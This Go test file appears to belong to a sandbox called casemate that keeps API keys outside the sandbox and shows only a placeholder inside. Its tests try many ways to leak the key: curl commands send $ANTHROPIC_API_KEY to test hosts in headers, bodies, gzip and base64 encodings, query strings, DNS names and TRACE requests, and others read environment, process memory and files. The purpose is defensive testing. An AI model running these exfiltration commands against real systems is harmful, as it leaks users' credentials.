package test

import (
	"bytes"
	"crypto/rand"
	"encoding/hex"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// brokered is a site with a secret in its person's store, whose value no other test knows.
type brokered struct {
	*site
	value string
}

const withSecret = `secrets:
  anthropic: {env: ANTHROPIC_API_KEY, hosts: [api.allowed.example], paths: [/told]}
`

// keeps has the person's store keep a new value.
func keeps(t *testing.T, s *site) *brokered {
	t.Helper()
	random := make([]byte, 24)
	rand.Read(random)
	b := &brokered{s, "sk-ant-api03-" + hex.EncodeToString(random)}
	b.secret(b.value, "set", "anthropic", "--host", "api.allowed.example")
	return b
}

// secret runs casemate-secret, as casemate secret does.
func (b *brokered) secret(in string, args ...string) {
	b.t.Helper()
	cmd := exec.Command(filepath.Join(filepath.Dir(casemate), "casemate-secret"), args...)
	cmd.Dir, cmd.Env, cmd.Stdin = b.Work, b.environ(), strings.NewReader(in)
	if out := b.finish(cmd); out.exit != 0 {
		b.t.Fatal(args, out)
	}
}

// approve puts the project's policy there.
func (b *brokered) approve(policy string) {
	b.t.Helper()
	b.put("casemate.yaml", policy, 0o644)
	if out := b.do("trust", "--yes"); out.exit != 0 {
		b.t.Fatal(out)
	}
}

// wasTold says whether a host was given text.
func (w *world) wasTold(text string) bool {
	return strings.Contains(strings.Join(w.told("told "), "\n"), text)
}

// TestEscapesOfCredentials are E60 to E66: the value is at the host, and nowhere else.
func TestEscapesOfCredentials(t *testing.T) {
	gated(t, func(t *testing.T, s *site) {
		needs(t, "curl")
		b := keeps(t, s)
		// The controls: without the broker the placeholder, or whatever stands in the variable, reaches each server as it is.
		out := s.run("--allow", "api.allowed.example", "--allow", "other.allowed.example", "--", "sh", "-c", `curl -sSk -H "X-Api-Key: the-control" https://api.allowed.example/told; curl -sSk -d the-body https://other.allowed.example/told`)
		if !s.world.wasTold("key=the-control") || !s.world.wasTold(`body="the-body"`) {
			t.Fatalf("control: %v, %q", out, s.world.told("told "))
		}

		policy := withSecret + "network:\n  allow: [{host: other.allowed.example, methods: [GET, POST]}, {host: allowed.example, ports: [80]}]\n"
		b.approve(policy)
		k := s.talk("--name", "brokered")
		placeholder := k.ask("echo $ANTHROPIC_API_KEY")
		if len(placeholder) != len(b.value) || !strings.HasPrefix(placeholder, "sk-ant-api03-") || placeholder == b.value {
			t.Fatalf("inside: %q", placeholder)
		}
		const curl = `curl -sS -m 20 -H "X-Api-Key: $ANTHROPIC_API_KEY" `
		// E62: a secret opens nothing.
		asked := len(s.world.told("query api.allowed.example"))
		if got := k.ask(curl + "https://api.allowed.example/told"); !strings.Contains(got, "ould not resolve host") || len(s.world.told("query api.allowed.example")) > asked {
			t.Errorf("E62: %q", got)
		}
		// E61: what is allowed later is opened from its first byte.
		if out := s.do("allow", "brokered", "net:api.allowed.example"); out.exit != 0 {
			t.Fatal(out)
		}
		eventually(t, 20*time.Second, "the host is allowed", func() bool {
			return strings.Contains(k.ask(curl+"https://api.allowed.example/told"), "api.allowed.example /told")
		})
		if !s.world.wasTold("key="+b.value) || s.world.wasTold(placeholder) {
			t.Errorf("E61: %q", s.world.told("told "))
		}
		// E60: another host, field, path; the body in three ways; the query; a name; a connection that is passed through; TRACE; what comes back.
		for name, line := range map[string]string{
			"another host": curl + "https://other.allowed.example/told", "another field": `curl -sS -H "X-Note: my $ANTHROPIC_API_KEY" https://api.allowed.example/told`,
			"another path": curl + "https://api.allowed.example/elsewhere", "the body": `curl -sS -d "k=$ANTHROPIC_API_KEY" https://api.allowed.example/told`,
			"chunks": `printf %s "$ANTHROPIC_API_KEY" | curl -sS -T - -X POST https://api.allowed.example/told`, "a compressed body": `printf %s "$ANTHROPIC_API_KEY" | gzip | curl -sS --data-binary @- -H "Content-Encoding: gzip" https://api.allowed.example/told`,
			"base64": `curl -sS -d "$(printf 1%s "$ANTHROPIC_API_KEY" | base64 -w0)" https://other.allowed.example/told`, "the query": `curl -sS "https://api.allowed.example/told?k=$ANTHROPIC_API_KEY"`, "TRACE": curl + "-X TRACE https://api.allowed.example/told",
			"a name": `curl -sS "https://$ANTHROPIC_API_KEY.allowed.example/"`, "without TLS": curl + "http://allowed.example/told",
		} {
			before := len(s.world.told("told "))
			got := k.ask(line)
			whole := name != "chunks" // what has no length is looked through on its way: the host sees a request that breaks off
			if s.world.wasTold(placeholder) || whole && len(s.world.told("told ")) > before || strings.Contains(got, b.value) || !strings.Contains(got, "casemate") && !strings.Contains(got, "curl: (") {
				t.Errorf("E60, %s: %q, and %q", name, got, s.world.told("told "))
			}
		}
		if got := k.ask(curl + "-i https://api.allowed.example/told"); !strings.Contains(got, "key="+placeholder) || !strings.Contains(got, "cho: "+placeholder) || strings.Contains(got, b.value) {
			t.Errorf("E60, what comes back: %q", got)
		}
		// E63, E64, E65: no process inside, no file, no command line and no log has it, nor the authority's key, nor the way to the store.
		got := k.ask(`cat /run/casemate/* | grep -c "PRIVATE KEY"; casemate-secret list 2>&1; ls -d "$HOME/.config/casemate" "$XDG_STATE_HOME" 2>&1; env`)
		if !strings.HasPrefix(got, "0\n") || strings.Contains(got, b.value) || strings.Contains(got, "anthropic ") {
			t.Errorf("E64, E65: %q", got)
		}
		b.notInProcesses(k.cmd.Process.Pid, placeholder)
		// Rotated, the next request has the new value, which is longer; removed, none.
		rotated := b.value + "-rotated"
		b.secret(rotated, "rotate", "anthropic")
		eventually(t, 20*time.Second, "the rotated value is used", func() bool {
			k.ask(curl + "https://api.allowed.example/told")
			return s.world.wasTold("key=" + rotated)
		})
		s.put("casemate.yaml", "network:\n  allow: [{host: other.allowed.example, methods: [GET, POST]}, {host: allowed.example, ports: [80]}]\n", 0o644)
		eventually(t, 20*time.Second, "a secret that the policy names no more is not used", func() bool {
			return strings.Contains(k.ask(curl+"https://api.allowed.example/told"), "the policy names it no more")
		})
		b.approve(policy)
		eventually(t, 20*time.Second, "a secret that the policy names again is used", func() bool {
			return strings.Contains(k.ask(curl+"https://api.allowed.example/told"), "api.allowed.example /told")
		})
		b.secret("", "rm", "anthropic")
		eventually(t, 20*time.Second, "the removed value is refused", func() bool {
			return strings.Contains(k.ask(curl+"https://api.allowed.example/told"), "anthropic")
		})
		words := k.end()
		events := s.events(t)
		for _, want := range []string{`"kind":"alarm","subject":"secret:anthropic"`, "other.allowed.example:443: the placeholder of the secret", "the compressed body", "a host's name that was looked up", "the first bytes"} {
			has(t, "events", events, want)
		}
		for what, text := range map[string]string{"what is said": words, "events": events, "casemate net": s.do("net", "--json").stdout} {
			if strings.Contains(text, b.value) || strings.Contains(text, placeholder) {
				t.Errorf("E63: %s: %s", what, text)
			}
		}
		b.notInFiles(s.State, s.Work, s.Home)
	})
}

// TestNoStoreNoRun is E66: what is missing, damaged or shut keeps the command from running, and says what to do.
func TestNoStoreNoRun(t *testing.T) {
	gated(t, func(t *testing.T, s *site) {
		b := keeps(t, s)
		b.approve(withSecret + "  other: {env: OTHER, hosts: [api.allowed.example]}\nnetwork: {allow: [{host: api.allowed.example}]}\n")
		if out := s.sh("echo it ran"); out.exit != 125 || strings.Contains(out.stdout, "it ran") || !strings.Contains(out.stderr, "casemate secret set other") {
			t.Errorf("an entry that is not there: %v", out)
		}
		b.approve(withSecret + "network: {allow: [{host: api.allowed.example}]}\nenv: {pass: [ANTHROPIC_API_KEY]}\n")
		if out := s.sh("echo it ran"); out.exit != 125 || strings.Contains(out.stdout, "it ran") || !strings.Contains(out.stderr, "would bring its value inside") {
			t.Errorf("a variable that is passed: %v", out)
		}
		b.approve(withSecret + "network: {allow: [{host: api.allowed.example}]}\n")
		if out := s.sh("echo it ran"); !strings.Contains(out.stdout, "it ran") {
			t.Errorf("control: %v", out)
		}
		if out := s.do("plan", "--", "true"); !strings.Contains(out.stdout, "use the secret anthropic (inside: a placeholder in ANTHROPIC_API_KEY) in requests to api.allowed.example:443") || strings.Contains(out.stdout, b.value[:20]) {
			t.Errorf("the plan: %v", out)
		}
		b.approve(withSecret)
		out := s.sh("echo $ANTHROPIC_API_KEY; cat /proc/self/environ")
		if !strings.HasPrefix(out.stdout, "casemate-placeholder-") || strings.Contains(out.stdout, b.value) {
			t.Errorf("without a network: %v", out)
		}
		has(t, "the plan without a network", s.do("plan", "--", "true").stdout, "holds a placeholder that")
	})
}

// notInProcesses reads what a supervisor, and each process of its sandbox, has in its environment, command line and memory. The control is the placeholder,
// which has to be found.
func (b *brokered) notInProcesses(supervisor int, placeholder string) {
	b.t.Helper()
	found := false
	for _, pid := range append(below(supervisor), supervisor) {
		dir := "/proc/" + strconv.Itoa(pid)
		name, _ := os.ReadFile(dir + "/comm")
		if comm := strings.TrimSpace(string(name)); strings.HasPrefix(comm, "casemate-gate") || strings.HasPrefix(comm, "casemate-secre") { // they are to hold it, and outside
			continue
		}
		for _, file := range []string{"environ", "cmdline"} {
			text, _ := os.ReadFile(filepath.Join(dir, file))
			if bytes.Contains(text, []byte(b.value)) {
				b.t.Errorf("%s of %s holds the value", file, name)
			}
		}
		found = b.memory(dir, strings.TrimSpace(string(name)), placeholder) || found
	}
	if !found {
		b.t.Error("control: no process inside holds the placeholder")
	}
}

// memory looks through the memory of a process, and says whether it holds the placeholder.
func (b *brokered) memory(dir, name, placeholder string) (found bool) {
	maps, err := os.ReadFile(dir + "/maps")
	if err != nil {
		return false // it has ended, or is nobody's to read
	}
	mem, err := os.Open(dir + "/mem")
	if err != nil {
		return false
	}
	defer mem.Close()
	for line := range strings.Lines(string(maps)) {
		span, rest, _ := strings.Cut(line, " ")
		from, to, _ := strings.Cut(span, "-")
		begin, err1 := strconv.ParseUint(from, 16, 63)
		end, err2 := strconv.ParseUint(to, 16, 63)
		if err1 != nil || err2 != nil || !strings.HasPrefix(rest, "rw") || end-begin > 256<<20 {
			continue
		}
		text := make([]byte, end-begin)
		n, _ := mem.ReadAt(text, int64(begin))
		found = found || bytes.Contains(text[:n], []byte(placeholder))
		if bytes.Contains(text[:n], []byte(b.value)) {
			b.t.Errorf("the memory of %s (%s) holds the value", name, dir)
		}
	}
	return found
}

// below are all processes that come from one.
func below(pid int) (list []int) {
	text, _ := filepath.Glob("/proc/" + strconv.Itoa(pid) + "/task/*/children")
	for _, file := range text {
		children, _ := os.ReadFile(file)
		for child := range strings.FieldsSeq(string(children)) {
			if n, err := strconv.Atoi(child); err == nil {
				list = append(append(list, n), below(n)...)
			}
		}
	}
	return list
}

// notInFiles looks through everything that the run has left.
func (b *brokered) notInFiles(dirs ...string) {
	b.t.Helper()
	for _, dir := range dirs {
		_ = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				if text, err := os.ReadFile(path); err == nil && bytes.Contains(text, []byte(b.value)) {
					b.t.Errorf("%s holds the value", path)
				}
			}
			return nil
		})
	}
}
